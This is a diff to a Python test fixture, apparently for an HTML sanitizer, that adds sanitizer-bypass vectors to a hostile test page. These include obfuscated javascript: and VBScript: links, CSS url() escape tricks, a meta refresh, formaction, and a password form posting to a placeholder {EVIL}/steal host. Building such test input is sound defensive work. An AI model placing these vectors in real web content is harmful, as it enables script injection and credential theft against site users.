@@ -120,6 +120,14 @@ def hostile_html(base: str) -> str:
 <a id="js-entity" href="java&#x09;script:alert('tab')">js tab</a>
 <a id="data-link" href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data html</a>
 <a id="rel-link" href="/relative/page">relative link</a>
+<a id="vb-link" href=" VBScript:msgbox(1)">vb link</a> <a id="js-upper" href="  JaVaScRiPt:alert(2)">upper</a>
+<meta http-equiv="refresh" content="0; url={EVIL}/body-refresh">
+<link rel="stylesheet" href="{EVIL}/body.css"><link rel="import" href="{EVIL}/import.html">
+<style>.esc {{ background: \\75 rl({EVIL}/escaped.png) }} .esc2 {{ background: u\\rl("{EVIL}/escaped2.png") }}
+@media screen {{ .m {{ background: url({EVIL}/media.png); color: blue }} }}
+@supports (display: grid) {{ .s {{ list-style-image: url("{EVIL}/list.png") }} }}</style>
+<button formaction="{EVIL}/formaction">press</button>
+<img srcset="data:text/html;base64,PHNjcmlwdD4= 1x">
 <form id="form" action="{EVIL}/steal" method="post"><input name="password" type="password"><button>Send</button></form>
 <iframe id="frame" src="{EVIL}/frame"></iframe>
 <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
